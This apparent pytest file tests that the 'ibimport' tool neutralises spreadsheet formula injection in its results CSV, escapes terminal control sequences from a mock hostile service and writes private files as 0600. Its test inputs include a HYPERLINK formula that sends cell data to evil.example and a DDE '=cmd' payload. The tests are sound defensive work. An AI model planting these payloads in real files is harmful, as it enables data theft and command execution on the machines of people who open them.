"""Output safety: what ibimport writes is private, and no cell of it runs in a spreadsheet.

Text in the results CSV comes from outside (the manifest's names and tokens, the
service's ARNs, error codes, messages and request ids), and people open that file in
spreadsheets: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR must be
neutralised. The journal (and SQLite's -wal and -shm beside it), the report and the
results name accounts and images, so they are created 0600 whatever the umask.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import stat
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from integration_support import invoke, read_results, run_args

from ibimport.domain.results import RowResult, RowStatus
from ibimport.emulator import EmulatorServer
from ibimport.journal import SqliteJournal
from ibimport.report import ResultsWriter, write_report

StartEmulator = Callable[..., EmulatorServer]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _task(n: int, name: str) -> dict[str, Any]:
    return {
        "name": name,
        "semanticVersion": f"1.0.{n}",
        "platform": "Linux",
        "vmImportTaskId": f"import-ami-{n:017x}",
        "description": "=cmd|' /C calc'!A0",
        "tags": {"Owner": "+team", "Cost": "@center"},
        "clientToken": HOSTILE[n % len(HOSTILE)][:1] + f"token-{n}",
    }


def _data_cells(path: Path) -> list[dict[str, str]]:
    rows = read_results(path)
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)
    return rows


def test_results_neutralise_what_the_manifest_brings(
    start_emulator: StartEmulator, tmp_path: Path
) -> None:
    server = start_emulator()
    manifest = tmp_path / "wave.jsonl"
    # An image name may start with "-" (the one formula trigger the name rule allows); the
    # clientTokens bring the other triggers.
    names = [f"-{n}-1" for n in range(len(HOSTILE))]
    tasks = [_task(n, name) for n, name in enumerate(names)]
    manifest.write_text("".join(json.dumps(t) + "\n" for t in tasks), encoding="utf-8")

    result = invoke(*run_args(manifest, server.url))

    assert result.exit_code == 0, result.output
    rows = _data_cells(tmp_path / "wave.results.csv")
    assert [r["name"] for r in rows] == ["'" + name for name in names]
    assert [r["clientToken"] for r in rows] == ["'" + t["clientToken"] for t in tasks]
    assert {r["status"] for r in rows} == {"succeeded"}


class _HostileService(BaseHTTPRequestHandler):
    """An endpoint whose every answer is built to run in a spreadsheet."""

    count = 0

    def do_PUT(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        type(self).count += 1
        n = type(self).count
        if n % 2:
            body = {"imageArn": '=HYPERLINK("http://evil.example")', "requestId": "+1+1"}
            self._answer(200, body, {"x-amzn-RequestId": "+1+1"})
        else:
            message = HOSTILE[(n // 2) % len(HOSTILE)] + " is \x1b]0;not\x07 \x1b[31mallowed"
            self._answer(
                400,
                {"message": message},
                {"x-amzn-ErrorType": "-InvalidRequestException", "x-amzn-RequestId": "@evil"},
            )

    def _answer(self, status: int, body: dict[str, str], headers: dict[str, str]) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_service(aws_credentials: None) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileService)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_results_neutralise_what_the_service_answers(hostile_service: str, tmp_path: Path) -> None:
    manifest = tmp_path / "wave.jsonl"
    tasks = [_task(n, f"vm-{n}") for n in range(12)]
    manifest.write_text("".join(json.dumps(t) + "\n" for t in tasks), encoding="utf-8")

    # --no-reconcile: this service answers imports only (PUT), built to be hostile.
    result = invoke(*run_args(manifest, hostile_service, "--concurrency", "1", "--no-reconcile"))

    assert result.exit_code == 1, result.output  # the failed rows
    rows = _data_cells(tmp_path / "wave.results.csv")
    failed = [r for r in rows if r["status"] == "failed"]
    succeeded = [r for r in rows if r["status"] == "succeeded"]
    assert failed
    assert succeeded
    assert {r["errorCode"] for r in failed} == {"'-InvalidRequestException"}
    assert {r["requestId"] for r in failed} == {"'@evil"}
    # A leading tab or CR arrives escaped (as text: backslash, t), the others quoted.
    assert {r["errorMessage"][:2] for r in failed} <= {"'=", "'+", "'-", "'@", "\\t", "\\r"}
    assert {r["imageArn"][:2] for r in succeeded} == {"'="}
    assert {r["requestId"] for r in succeeded} == {"'+1+1"}
    # Terminal escapes from the service are escaped before they reach a terminal or a file.
    assert "\x1b" not in result.output
    assert b"\x1b" not in (tmp_path / "wave.results.csv").read_bytes()
    assert all("\\x1b[31mallowed" in r["errorMessage"] for r in failed)


# --- file modes ------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def _modes(directory: Path) -> dict[str, int]:
    return {p.name: _mode(p) for p in directory.iterdir()}


def test_every_file_a_run_creates_is_0600(start_emulator: StartEmulator, tmp_path: Path) -> None:
    """Watch the directory during a run: journal, -wal, -shm, report, results, temporaries."""
    server = start_emulator(latency_ms=20)
    manifest = tmp_path / "wave.jsonl"
    manifest.write_text(
        "".join(json.dumps(_task(n, f"vm-{n}")) + "\n" for n in range(40)), encoding="utf-8"
    )
    seen: dict[str, int] = {}
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            for path in tmp_path.iterdir():
                if path != manifest:
                    with contextlib.suppress(FileNotFoundError):
                        seen.setdefault(path.name, _mode(path))
            time.sleep(0.005)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        result = invoke(*run_args(manifest, server.url, "--concurrency", "4"))
    finally:
        done.set()
        watcher.join()
    assert result.exit_code == 0, result.output
    for path in tmp_path.iterdir():
        if path != manifest:
            seen.setdefault(path.name, _mode(path))
    expected = {"wave.journal", "wave.journal-wal", "wave.journal-shm"}
    expected |= {"wave.report.json", "wave.results.csv"}
    assert expected <= set(seen), seen
    assert {name: oct(mode) for name, mode in seen.items() if mode != 0o600} == {}


async def test_the_library_writes_0600_files_whatever_the_umask(tmp_path: Path) -> None:
    """Without the CLI's umask (a program calling ibimport as a library) too."""
    previous = os.umask(0o022)
    try:
        journal = SqliteJournal.open(
            tmp_path / "j.journal", manifest_path="m.csv", manifest_fingerprint="0", settings={}
        )
        async with journal.running():
            journal.record(
                RowResult(
                    row=1,
                    name="vm",
                    semantic_version="1.0.0",
                    status=RowStatus.SUCCEEDED,
                    client_token="t",
                )
            )
            await journal.flush()
            modes = _modes(tmp_path)
        await journal.aclose()
        with ResultsWriter(tmp_path / "r.csv") as writer:
            writer.write(
                RowResult(
                    row=1,
                    name="vm",
                    semantic_version="1.0.0",
                    status=RowStatus.SUCCEEDED,
                    client_token="t",
                )
            )
        write_report(tmp_path / "r.json", {"totals": {}})
    finally:
        os.umask(previous)
    modes = {**_modes(tmp_path), **modes}
    assert {"j.journal", "j.journal-wal", "r.csv", "r.json"} <= set(modes), modes
    assert {name: oct(mode) for name, mode in modes.items() if mode != 0o600} == {}


def test_a_neutralised_cell_reads_back_as_text() -> None:
    """The quote that neutralises stays visible, and the rest of the value is intact."""
    text = "\n".join(["a,b", "'=1+1,'\tx"])
    assert list(csv.reader(text.splitlines())) == [["a", "b"], ["'=1+1", "'\tx"]]
